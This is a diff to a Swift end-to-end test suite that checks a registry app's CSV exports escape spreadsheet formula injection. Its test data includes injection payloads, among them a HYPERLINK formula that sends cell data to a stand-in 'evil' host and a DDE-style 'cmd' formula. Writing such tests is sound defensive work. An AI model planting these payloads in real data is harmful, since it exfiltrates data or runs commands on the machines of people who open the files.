@@ -4,13 +4,18 @@ import Testing
 extension EndToEnd {
     @Suite("Exports are safe in spreadsheets, and responses are neither cached nor sniffed")
     struct SpreadsheetTests {
+        /// Texts of a phone, and what a spreadsheet gets.
         private static let formulas = [
-            "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+            "=HYPERLINK(\"http://evil/?\"&A1,\"x\")": "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1": "'+1",
+            "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t'=1", "\r=1": "'\r'=1",
+            // Cells of their own where the list separator is a semicolon or a tab, and at the end of a line.
+            "x;=1+cmd|A0;y": "x;'=1+cmd|A0;y", "x\t@SUM(A1)": "x\t'@SUM(A1)",
+            "x; \"=1\"": "x; \"'=1\"", "x\n-1": "x\n'-1", "a-b; c=d": "a-b; c=d",
         ]
 
         private func make() async throws -> RegistryApp {
             let app = try await RegistryApp.make()
-            for (number, formula) in (Self.formulas + ["Telekom"]).enumerated() {
+            for (number, formula) in (Self.formulas.keys.sorted() + ["Telekom"]).enumerated() {
                 var device = SampleRegistration.device("phone-\(number)")
                 device["carrier"] = .string(formula)
                 device["timeZoneId"] = "America/New_York"
@@ -35,11 +40,14 @@ extension EndToEnd {
             for response in [
                 try await export(app, by: .marketing), try await export(app, by: .sender, ["spreadsheetSafe": true]),
             ] {
-                for formula in Self.formulas {
-                    let cell = formula.replacing("\"", with: "\"\"")
-                    #expect(response.text.contains("'" + cell), "\(formula)")
-                    #expect(
-                        !response.text.contains("\r\n" + cell) && !response.text.contains("\"" + cell), "\(formula)")
+                for (formula, safe) in Self.formulas {
+                    let cell = { (text: String) in
+                        let escaped = text.replacing("\"", with: "\"\"")
+                        let isQuoted = text.utf8.contains { ",\"\r\n".utf8.contains($0) }
+                        return isQuoted ? "\r\n\"\(escaped)\",-18000" : "\r\n\(escaped),-18000"
+                    }
+                    #expect(response.text.contains(cell(safe)), "\(formula)")
+                    #expect(safe == formula || !response.text.contains(cell(formula)), "\(formula)")
                 }
                 #expect(response.text.contains("\r\nTelekom,-18000,52.52 13.4\r\n"), "true numbers are left alone")
             }
